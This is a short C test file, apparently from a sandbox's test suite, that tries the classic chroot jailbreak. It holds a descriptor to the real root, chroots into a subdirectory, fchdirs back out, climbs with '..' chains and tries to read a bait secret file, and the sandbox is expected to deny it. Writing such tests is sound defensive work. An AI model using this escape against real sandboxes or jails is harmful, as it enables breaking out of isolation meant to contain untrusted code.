/* threat: 1.1-chroot
 * attack: climb out with chroot inside the root, fchdir to a directory held open, and dot-dot chains
 * expect: status=ok; denials~chroot
 * control: mountns seccomp
 * bare: secret
 */
#include "attack.h"

int main(void)
{
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("jail", 0700);
    if (!chroot("jail"))
        pwned("chroot worked");
    fchdir(outside);
    for (int i = 0; i < 64; i++)
        if (chdir(".."))
            break;
    spill(bait("world.txt") + 1);
    chroot(".");
    spill(bait("world.txt"));
    char path[PATH_MAX] = "/";
    for (int i = 0; i < 40; i++)
        strcat(path, "../");
    strcat(path, bait("world.txt") + 1);
    spill(path);
    return held();
}
